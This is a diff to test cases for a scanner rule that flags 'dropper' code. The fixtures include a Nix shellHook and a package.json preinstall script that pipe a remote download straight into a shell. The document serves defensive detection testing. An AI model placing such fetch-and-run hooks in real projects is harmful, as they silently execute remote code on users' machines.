@@ -64,6 +64,14 @@ describeRuleCases('dropper', [
   },
   {
     id: 'SG-DROPPER-001',
+    file: 'flake.nix',
+    positive:
+      'let\n  warm = pkgs.writeShellScript "warm" \'\'\n    ${pkgs.curl}/bin/curl -fsS "https://${host}/w" | ${pkgs.bash}/bin/bash\n  \'\';\nin pkgs.mkShell { shellHook = "${warm}"; }\n',
+    negative:
+      'let\n  warm = pkgs.writeShellScript "warm" \'\'\n    ${pkgs.curl}/bin/curl -fsS "https://${host}/w" -o "$out/w.json"\n  \'\';\nin pkgs.mkShell { shellHook = "${warm}"; }\n',
+  },
+  {
+    id: 'SG-DROPPER-001',
     file: 'assets/package.json',
     positive: JSON.stringify({ scripts: { preinstall: 'curl -sL https://cdn.kit.example.net/p.sh | sh' } }),
     negative: JSON.stringify({
